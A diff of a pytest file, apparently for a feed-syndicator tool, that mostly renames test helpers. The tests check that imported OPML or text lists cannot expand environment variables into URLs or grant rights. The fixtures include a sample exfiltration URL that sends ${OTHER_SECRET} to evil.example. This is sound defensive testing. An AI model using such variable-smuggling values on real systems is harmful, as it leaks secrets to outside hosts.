@@ -1,7 +1,6 @@
-"""A list of a stranger reads no variable of this machine and gives its sources no right, whatever
-way it comes in; the operator's own list brings both, if the operator says so. Every command is a
-process, and a server records what arrives.
-"""
+"""An imported list of a stranger reads no variable of this machine and gives no rights.
+The operator's own list does both, if the operator says so. Every command is a process, and a server
+records what arrives."""
 
 from __future__ import annotations
 
@@ -14,8 +13,8 @@ from typing import Any
 import pytest
 
 from tests import commands
-from tests.aged.web import Answer, Web, serving
-from tests.cli.sites import rss, story
+from tests.aged.web import Answer, Web, serve_web
+from tests.cli.sites import make_rss, make_story_page
 
 SECRET = "s3ntinel-of-this-machine"
 SETTINGS = '[site]\ncontact = "a@feeds.example"\n[fetch]\npause = 0\nproxy = "{proxy}"\n'
@@ -63,20 +62,22 @@ OUTLINES = {
 HARMLESS = ("dollar in percent", "rights", "around")  # those whose address names no variable
 
 
-class Following:
+class FollowingInstance:
     """An instance whose environment has a secret, and a web that records each request."""
 
     def __init__(self, folder: Path, web: Web) -> None:
-        self.folder, self.config, self.web = folder, folder / "config", web
+        self.folder = folder
+        self.config = folder / "config"
+        self.web = web
         self.config.mkdir()
         (self.config / "syndicator.toml").write_text(SETTINGS.format(proxy=web.proxy))
         (self.config / "sources.toml").write_text("")
         (self.config / "taxonomy.toml").write_text('[[tag]]\nname = "Sea"\n')
-        web.answers = {"http://evil.example/feed": rss("E", "http://evil.example/", [])}
+        web.answers = {"http://evil.example/feed": make_rss("E", "http://evil.example/", [])}
 
-    def run(self, *words: str) -> CompletedProcess[str]:
+    def run_command(self, *words: str) -> CompletedProcess[str]:
         environ = {"PATH": "/usr/bin:/bin", "HOME": str(self.folder), "OTHER_SECRET": SECRET}
-        return commands.run(*words, "--config", str(self.config), environ=environ)
+        return commands.run_syndicator(*words, "--config", str(self.config), environ=environ)
 
     def write_list(self, outline: str) -> str:
         path = self.folder / "list.opml"
@@ -92,9 +93,9 @@ class Following:
 
 
 @pytest.fixture
-def following(tmp_path: Path) -> Iterator[Following]:
-    with serving() as web:
-        yield Following(tmp_path, web)
+def following_instance(tmp_path: Path) -> Iterator[FollowingInstance]:
+    with serve_web() as web:
+        yield FollowingInstance(tmp_path, web)
 
 
 GIVEN = frozenset(("allow", "content", "force", "headers_env", "licence", "robots", "speaks_for"))
@@ -107,32 +108,39 @@ def name_given(source: Mapping[str, Any]) -> set[str]:
 
 
 @pytest.mark.parametrize("name", OUTLINES)
-def test_a_list_reads_no_variable_and_gives_no_right(following: Following, name: str) -> None:
-    done = following.run("import", following.write_list(OUTLINES[name]))
-    following.run("refresh", "--all")
-    assert done.returncode == 0 and not [
-        address for address in following.web.asked if SECRET in address
-    ]
-    assert not any(map(name_given, following.sources))
+def test_a_list_reads_no_variable_and_gives_no_right(
+    following_instance: FollowingInstance, name: str
+) -> None:
+    done = following_instance.run_command("import", following_instance.write_list(OUTLINES[name]))
+    following_instance.run_command("refresh", "--all")
+    assert done.returncode == 0
+    assert not [address for address in following_instance.web.asked if SECRET in address]
+    assert not any(map(name_given, following_instance.sources))
     if name in HARMLESS:
-        assert len(following.sources) == 1 and following.web.asked
+        assert len(following_instance.sources) == 1
+        assert following_instance.web.asked
     else:
         assert (
             "list.opml line 3: E: its address names a variable of this machine, OTHER_SECRET"
             in done.stdout
         )
-        assert not following.sources and not following.web.asked
-    said = following.run("check")
-    assert said.returncode == 0 and "source-rights" not in said.stdout
+        assert not following_instance.sources
+        assert not following_instance.web.asked
+    said = following_instance.run_command("check")
+    assert said.returncode == 0
+    assert "source-rights" not in said.stdout
 
 
-def test_the_rights_that_a_list_asks_for_are_named(following: Following) -> None:
-    done = following.run("import", "--no-refresh", following.write_list(OUTLINES["rights"]))
+def test_the_rights_that_a_list_asks_for_are_named(following_instance: FollowingInstance) -> None:
+    done = following_instance.run_command(
+        "import", "--no-refresh", following_instance.write_list(OUTLINES["rights"])
+    )
     rights = "allow, content, force, headers_env, licence, robots, speaks_for"
     assert (
-        f"not taken: {following.folder}/list.opml line 3: E: {rights}; `--trust-own`" in done.stdout
+        f"not taken: {following_instance.folder}/list.opml line 3: E: {rights}; `--trust-own`"
+        in done.stdout
     )
-    assert following.sources == [
+    assert following_instance.sources == [
         {"key": "evil", "url": "http://evil.example/feed", "tags": ["Sea"], "every": "5m"}
     ]
 
@@ -140,84 +148,92 @@ def test_the_rights_that_a_list_asks_for_are_named(following: Following) -> None
 @pytest.mark.parametrize(
     "way", ["add a file", "add an address", "import a text", "import a folder"]
 )
-def test_no_other_way_in_is_trusted(following: Following, way: str) -> None:
+def test_no_other_way_in_is_trusted(following_instance: FollowingInstance, way: str) -> None:
     """The list as a file and on the web; addresses as plain text; a folder of lists. (Console, API:
     tests/console.)"""
-    path = following.write_list(f"{OUTLINES['rights']}\n{OUTLINES['plain']}")
+    path = following_instance.write_list(f"{OUTLINES['rights']}\n{OUTLINES['plain']}")
     if way == "add a file":
-        following.run("add", "--yes", path)
+        following_instance.run_command("add", "--yes", path)
     elif way == "add an address":
         listed = Answer(body=Path(path).read_text(), type="text/x-opml")
-        following.web.answers = {**following.web.answers, "http://evil.example/list.opml": listed}
-        following.run("add", "--yes", "http://evil.example/list.opml")
+        following_instance.web.answers = {
+            **following_instance.web.answers,
+            "http://evil.example/list.opml": listed,
+        }
+        following_instance.run_command("add", "--yes", "http://evil.example/list.opml")
     elif way == "import a text":
-        text = following.folder / "list.txt"
+        text = following_instance.folder / "list.txt"
         text.write_text("http://evil.example/o?x=${OTHER_SECRET}\n")
-        assert following.run("import", str(text)).returncode != 0
+        assert following_instance.run_command("import", str(text)).returncode != 0
     else:
-        lists = following.folder / "lists"
+        lists = following_instance.folder / "lists"
         lists.mkdir()
         Path(path).rename(lists / "list.opml")
-        following.run("import", str(lists))
-    following.run("refresh", "--all")
-    assert len(following.sources) == way.startswith("add") and not any(
-        map(name_given, following.sources)
-    )
-    assert not [address for address in following.web.asked if SECRET in address]
+        following_instance.run_command("import", str(lists))
+    following_instance.run_command("refresh", "--all")
+    assert len(following_instance.sources) == way.startswith("add")
+    assert not any(map(name_given, following_instance.sources))
+    assert not [address for address in following_instance.web.asked if SECRET in address]
 
 
 def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(
-    following: Following,
+    following_instance: FollowingInstance,
 ) -> None:
-    path = following.config / "sources.toml"
+    """The operator's own export restores all sources and lists variables and rights."""
+    path = following_instance.config / "sources.toml"
     path.write_text(
         '[[source]]\nkey = "mine"\nurl = "http://mine.example/o?x=${OTHER_SECRET}"\nspeaks_for ='
         ' ["b.example"]\nheaders_env = { X-Key = "OTHER_SECRET" }\n[[source]]\nkey = "two"\nurl ='
         ' "http://two.example/feed"\n'
     )
-    before = following.sources
-    exported = following.folder / "own.opml"
-    exported.write_text(following.run("export").stdout)
+    before = following_instance.sources
+    exported = following_instance.folder / "own.opml"
+    exported.write_text(following_instance.run_command("export").stdout)
     path.write_text("")
-    dry = following.run("import", "--dry-run", "--trust-own", str(exported)).stdout
-    done = following.run("import", "--trust-own", str(exported))
+    dry = following_instance.run_command("import", "--dry-run", "--trust-own", str(exported)).stdout
+    done = following_instance.run_command("import", "--trust-own", str(exported))
     line = (
         'given: mine: headers_env = { "X-Key" = "OTHER_SECRET" }, speaks_for = ["b.example"],'
         " ${OTHER_SECRET}\n"
     )
-    assert line in dry and line in done.stdout and "given: two" not in done.stdout
-    assert following.sources == before
-    assert f"http://mine.example/o?x={SECRET}" in following.web.asked
-    listed = following.run("check")
+    assert line in dry
+    assert line in done.stdout
+    assert "given: two" not in done.stdout
+    assert following_instance.sources == before
+    assert f"http://mine.example/o?x={SECRET}" in following_instance.web.asked
+    listed = following_instance.run_command("check")
     assert f"{path}:1: info: source 'mine': it has headers_env" in listed.stdout
-    assert listed.stdout.endswith("no problems found\n") and listed.returncode == 0
+    assert listed.stdout.endswith("no problems found\n")
+    assert listed.returncode == 0
 
 
-def test_a_list_takes_no_feed_of_a_source_that_was_removed(following: Following) -> None:
+def test_a_list_takes_no_feed_of_a_source_that_was_removed(
+    following_instance: FollowingInstance,
+) -> None:
     """Who reads sources/victim.atom does not get a stranger's articles in it; the victim itself
     gets its key again."""
     victim = {"key": "victim", "url": "http://victim.example/feed"}
-    following.web.answers = {
-        victim["url"]: rss(
+    following_instance.web.answers = {
+        victim["url"]: make_rss(
             "V", "http://victim.example/", [("Ferries", "http://victim.example/ferries")]
         ),
-        "http://victim.example/ferries": story("Ferries"),
-        "http://evil.example/feed": rss("E", "http://evil.example/", []),
+        "http://victim.example/ferries": make_story_page("Ferries"),
+        "http://evil.example/feed": make_rss("E", "http://evil.example/", []),
     }
-    (following.config / "sources.toml").write_text(
+    (following_instance.config / "sources.toml").write_text(
         f'[[source]]\nkey = "victim"\nurl = "{victim["url"]}"\n'
     )
-    following.run("refresh", "--all")
-    assert (following.folder / "feeds/public/sources/victim.atom").exists()
-    following.run("remove", "victim")
+    following_instance.run_command("refresh", "--all")
+    assert (following_instance.folder / "feeds/public/sources/victim.atom").exists()
+    following_instance.run_command("remove", "victim")
     outline = f"<outline {OURS} s:key='victim' text='{{}}' xmlUrl='{{}}'/>"
-    following.run(
+    following_instance.run_command(
         "import",
         "--no-refresh",
-        following.write_list(outline.format("E", "http://evil.example/feed")),
+        following_instance.write_list(outline.format("E", "http://evil.example/feed")),
     )
-    assert [source["key"] for source in following.sources] == ["evil"]
-    following.run(
-        "import", "--no-refresh", following.write_list(outline.format("V", victim["url"]))
+    assert [source["key"] for source in following_instance.sources] == ["evil"]
+    following_instance.run_command(
+        "import", "--no-refresh", following_instance.write_list(outline.format("V", victim["url"]))
     )
-    assert [source["key"] for source in following.sources] == ["evil", "victim"]
+    assert [source["key"] for source in following_instance.sources] == ["evil", "victim"]
